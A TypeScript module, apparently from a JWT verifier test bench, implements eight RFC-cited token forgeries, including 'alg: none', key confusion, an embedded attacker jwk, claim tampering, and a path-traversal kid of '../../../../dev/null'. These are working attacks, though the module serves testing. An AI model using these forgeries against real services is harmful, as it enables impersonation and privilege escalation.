import { exportSPKI, importJWK } from 'jose'
import { encodeBase64Url, encodeUtf8 } from '@/lib/oauth/base64url'
import type { CitationId } from '@/lib/oauth/citations'
import type { DecodedJwt } from '@/lib/oauth/jwt'
import type { ReadToken } from './read-token'

type Members = Record<string, unknown>
type Jwt = Extract<ReadToken, { kind: 'jwt' }>

/** What a forger has: the token, the server's public key, the time. No private key of anybody's. */
export interface Workshop {
  /** A public key of the authorization server, as published; null when it was not fetched. */
  publicKey: Members | null
  /** Milliseconds since the epoch. */
  now: number
}

export interface Forgery {
  id: string
  label: string
  /** What the forger hopes for. */
  hope: string
  cites: readonly CitationId[]
  /** Builds the forged token. */
  make(original: Jwt, workshop: Workshop): Promise<string>
}

const YEAR = 365 * 86_400
const EVERYTHING = ['photos.read', 'photos.write', 'usage.read']

/** Every way to forge that the bench offers, each with its own hope. */
export const FORGERIES: readonly Forgery[] = [
  {
    id: 'none',
    label: 'alg: none',
    hope: 'The verifier takes “none” for an algorithm like any other and asks for no signature.',
    cites: ['rfc8725-3.1', 'rfc8725-3.2'],
    make: async ({ jwt }) => `${encode({ ...jwt.header, alg: 'none' })}.${encode(jwt.payload)}.`,
  },
  {
    id: 'public-key-as-secret',
    label: 'HS256 with the public key',
    hope: 'The verifier lets the token choose HS256, and uses the public key, which everybody has, as the shared secret.',
    cites: ['rfc8725-3.1'],
    async make({ jwt }, { publicKey }) {
      if (!publicKey) throw new Error('The server’s public key is needed for this, and could not be fetched.')
      const key = await importJWK(publicKey, String(publicKey.alg), { extractable: true })
      if (key instanceof Uint8Array) throw new Error('The server published a secret key.')
      return signed({ ...jwt.header, alg: 'HS256' }, jwt.payload, hmac(encodeUtf8(await exportSPKI(key))))
    },
  },
  {
    id: 'own-key',
    label: 'Own key in the header (jwk)',
    hope: 'The verifier trusts the key that the token brings along.',
    cites: ['rfc8725-3.10'],
    async make({ jwt }) {
      const { privateKey, jwk } = await newKey()
      const { kid: _, ...header } = jwt.header
      return signed({ ...header, alg: 'ES256', jwk }, jwt.payload, (bytes) =>
        crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, privateKey, bytes),
      )
    },
  },
  {
    id: 'subject',
    label: 'Another subject (sub)',
    hope: 'The verifier reads who it is about, and never looks at the signature.',
    cites: ['rfc9068-4'],
    make: async ({ jwt, parts }) =>
      `${parts[0]}.${encode({ ...jwt.payload, sub: jwt.payload.sub === 'alice' ? 'bob' : 'alice' })}.${parts[2]}`,
  },
  {
    id: 'scope',
    label: 'More scope',
    hope: 'The verifier reads what it allows, and never looks at the signature.',
    cites: ['rfc9068-4'],
    make: async ({ jwt, parts }) =>
      `${parts[0]}.${encode({ ...jwt.payload, scope: EVERYTHING.join(' ') })}.${parts[2]}`,
  },
  {
    id: 'fresh',
    label: 'Made fresh (exp)',
    hope: 'A token that has expired lives for another year.',
    cites: ['rfc9068-4'],
    async make({ jwt, parts }, { now }) {
      const iat = Math.floor(now / 1000)
      return `${parts[0]}.${encode({ ...jwt.payload, iat, exp: iat + YEAR })}.${parts[2]}`
    },
  },
  {
    id: 'kid',
    label: 'kid: a path to an empty file',
    hope: 'The verifier opens the file that kid names and takes its content, nothing, as the secret.',
    cites: ['rfc8725-3.10'],
    // HMAC pads its key with zeros: a key of one zero byte signs as the empty key does, which Web Crypto refuses.
    make: ({ jwt }) =>
      signed({ ...jwt.header, alg: 'HS256', kid: '../../../../dev/null' }, jwt.payload, hmac(new Uint8Array(1))),
  },
  {
    id: 'type',
    label: 'Another type (typ)',
    hope: 'An ID token passes as an access token, or the other way round.',
    cites: ['rfc8725-3.11', 'rfc9068-2.1'],
    make: async ({ jwt, parts }) =>
      `${encode({ ...jwt.header, typ: jwt.header.typ === 'at+jwt' ? 'JWT' : 'at+jwt' })}.${parts[1]}.${parts[2]}`,
  },
]

/** Names of the members that differ, of one half of two tokens. */
export function changedMembers(before: Members, after: Members): string[] {
  const names = [...new Set([...Object.keys(before), ...Object.keys(after)])]
  return names.filter((name) => JSON.stringify(before[name]) !== JSON.stringify(after[name]))
}

/** What a forger changed: names of header members and claims, and whether the signature is another one. */
export function changesOf(original: DecodedJwt, forged: DecodedJwt) {
  return {
    header: changedMembers(original.header, forged.header),
    payload: changedMembers(original.payload, forged.payload),
    signature: original.signature !== forged.signature,
  }
}

const encode = (members: Members): string => encodeBase64Url(encodeUtf8(JSON.stringify(members)))

type Sign = (bytes: Uint8Array<ArrayBuffer>) => Promise<ArrayBuffer>

async function signed(header: Members, payload: Members, sign: Sign): Promise<string> {
  const text = `${encode(header)}.${encode(payload)}`
  return `${text}.${encodeBase64Url(new Uint8Array(await sign(encodeUtf8(text))))}`
}

const hmac =
  (secret: Uint8Array<ArrayBuffer>): Sign =>
  async (bytes) => {
    const key = await crypto.subtle.importKey('raw', secret, { name: 'HMAC', hash: 'SHA-256' }, false, ['sign'])
    return crypto.subtle.sign('HMAC', key, bytes)
  }

async function newKey(): Promise<{ privateKey: CryptoKey; jwk: Members }> {
  const algorithm = { name: 'ECDSA', namedCurve: 'P-256' }
  const { publicKey, privateKey } = await crypto.subtle.generateKey(algorithm, false, ['sign', 'verify'])
  const { kty, crv, x, y } = await crypto.subtle.exportKey('jwk', publicKey)
  return { privateKey, jwk: { kty, crv, x, y } }
}
